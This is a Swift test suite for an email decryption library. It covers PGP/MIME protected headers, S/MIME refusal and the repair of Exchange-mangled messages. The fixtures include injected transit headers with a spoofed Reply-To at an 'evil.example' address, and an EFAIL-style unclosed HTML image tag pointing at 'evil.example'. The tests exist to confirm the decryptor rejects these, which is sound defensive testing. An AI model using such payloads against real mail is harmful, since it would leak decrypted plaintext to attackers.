import Foundation
import Incoming
import MIME
import OpenPGP
import TestSupport
import Testing

/// Outer fields a path may add or change, with values no protected part has.
let transitFields = [("Reply-To", "Mallory <mallory@evil.example>"), ("X-Injected", "zqinjected"),
                     ("Received", "from evil.example by mx.example.org"), ("Keywords", "zqkeyword"),
                     ("Comments", "zqcomment"), ("Organization", "Evil Corp")]

@Suite("Protected headers win, and only they; S/MIME and Exchange's PGP/MIME named", .serialized)
struct ProtectedHeaderTests {
    let keys = ["alice.sec.asc", "bob.sec.asc"]

    /// A PGP/MIME mail whose outer header holds `outer` fields and whose
    /// encrypted part holds `inner` fields under the marker `marker`.
    func letter(outer: [(String, String)], inner: [(String, String)], marker: String, home: TemporaryGnuPGHome) throws -> [UInt8] {
        let part = "Content-Type: text/plain; charset=utf-8\(marker)\n"
            + inner.map { "\($0.0): \($0.1)\n" }.joined() + "\nThe real text.\n"
        let armored = try encrypted(part, to: "bob@example.org", home: home)
        return Array((outer.map { "\($0.0): \($0.1)\n" }.joined() + "MIME-Version: 1.0\n" + pgpMIME(armored)).utf8)
    }

    @Test("marked (hp=\"cipher\", protected-headers=\"v1\"): the header section is the protected fields; outer extras are dropped and named")
    func protectedOnly() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let decryptor = MailDecryptor(gnupg: GnuPG(home: home.path))
            let inner = [("From", "Alice <alice@example.org>"), ("To", "Bob <bob@example.org>"), ("Subject", "Real subject"),
                         ("Message-ID", "<p.1@example.org>"), ("Date", "Sat, 21 Nov 2026 10:00:00 +0100")]
            for marker in ["; hp=\"cipher\"", "; protected-headers=\"v1\"", "; hp=\"cipher\"; protected-headers=\"v1\""] {
                // A random selection of transit fields, in a random order, among the outer ones.
                let extras = transitFields.shuffled().prefix(Int.random(in: 1...transitFields.count))
                var outer = [("From", "Alice <alice@example.org>"), ("To", "Bob <bob@example.org>"), ("Subject", "..."),
                             ("Message-ID", "<p.1@example.org>")]
                for extra in extras { outer.insert(extra, at: Int.random(in: 0...outer.count)) }
                let (message, report) = try decryptor.decrypt(try letter(outer: outer, inner: inner, marker: marker, home: home))
                let names = message.headers.map { $0.name.lowercased() }.filter { !$0.hasPrefix("content-") && $0 != "mime-version" }
                #expect(Set(names) == Set(inner.map { $0.0.lowercased() }), "\(marker): \(names)")
                #expect(message.subject == "Real subject")
                let text = String(decoding: message.serialize(), as: UTF8.self)
                for (name, value) in extras { #expect(!text.contains(value), "\(marker): \(name) left in") }
                let expected = outer.map(\.0).filter { name in extras.contains { $0.0 == name } }
                #expect(report.droppedOuterFields == expected, "\(marker)")
                #expect(report.protectedHeaders)
            }
        }
    }

    @Test("unmarked: outer fields stay, fields inside replace theirs, nothing is reported dropped")
    func unmarked() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let outer = [("From", "Alice <alice@example.org>"), ("Reply-To", "alice.home@example.org"), ("Subject", "outer")]
            let (message, report) = try MailDecryptor(gnupg: GnuPG(home: home.path))
                .decrypt(try letter(outer: outer, inner: [("Subject", "inner")], marker: "", home: home))
            #expect(message.header("Reply-To") == "alice.home@example.org" && message.subject == "inner")
            #expect(report.droppedOuterFields.isEmpty)
        }
    }

    @Test("S/MIME, signed or enveloped, is named as not supported")
    func smime() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let gnupg = GnuPG(home: home.path)
            let enveloped = mail("Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n"
                                 + "Content-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHA6CAMIACAQAxggE=\n")
            let signed = mail("Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=\"s\"\n\n"
                              + "--s\nContent-Type: text/plain\n\nHello\n--s\nContent-Type: application/pkcs7-signature; name=smime.p7s\n"
                              + "Content-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAAA==\n--s--\n")
            for raw in [enveloped, signed] {
                let report = try MailVerifier(gnupg: gnupg).verify(raw)
                #expect(report.reason == "S/MIME is not supported" && report.status == "unsupported" && !report.verified)
                #expect(throws: DecryptionRefusal.self) { try MailDecryptor(gnupg: gnupg).decrypt(raw) }
                do { _ = try MailDecryptor(gnupg: gnupg).decrypt(raw) } catch let refusal as DecryptionRefusal {
                    #expect(refusal.description == "S/MIME is not supported" && refusal.unsupported)
                }
            }
        }
    }

    /// PGP/MIME as Microsoft Exchange rewrites it, with the parts given.
    func exchange(_ armored: String, text: String = "", filename: String = "encrypted.asc", extra: String = "") -> [UInt8] {
        mail("Content-Type: multipart/mixed; boundary=\"x\"\n\n--x\nContent-Type: text/plain; charset=utf-8\n\n\(text)\n"
             + "--x\nContent-Type: application/pgp-encrypted\nContent-Disposition: attachment\n\nVersion: 1\n\n"
             + "--x\nContent-Type: application/octet-stream; name=\"\(filename)\"\nContent-Disposition: attachment; filename=\"\(filename)\"\n\n"
             + armored + "\n" + extra + "--x--\n")
    }

    @Test("PGP/MIME mangled by Exchange is repaired in exactly that shape; near misses stay the EFAIL shape")
    func exchangeShape() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let decryptor = MailDecryptor(gnupg: GnuPG(home: home.path))
            let armored = try encrypted("Content-Type: text/plain\n\nzqsecret text\n", to: "bob@example.org", signer: "alice@example.org", home: home)
            let (message, report) = try decryptor.decrypt(exchange(armored))
            #expect(report.repaired == "exchange" && report.decrypted && report.signature?.verified == true)
            #expect(message.body?.text == "zqsecret text\n")
            let nearMisses = [
                ("text beside it", exchange(armored, text: "Please reply with the text below.")),
                ("another name", exchange(armored, filename: "message.asc")),
                ("a fourth part", exchange(armored, extra: "--x\nContent-Type: text/html\n\n<img src=\"http://evil.example/?\n")),
            ]
            for (what, raw) in nearMisses {
                #expect(throws: DecryptionRefusal.self, "\(what)") { try decryptor.decrypt(raw) }
            }
        }
    }
}
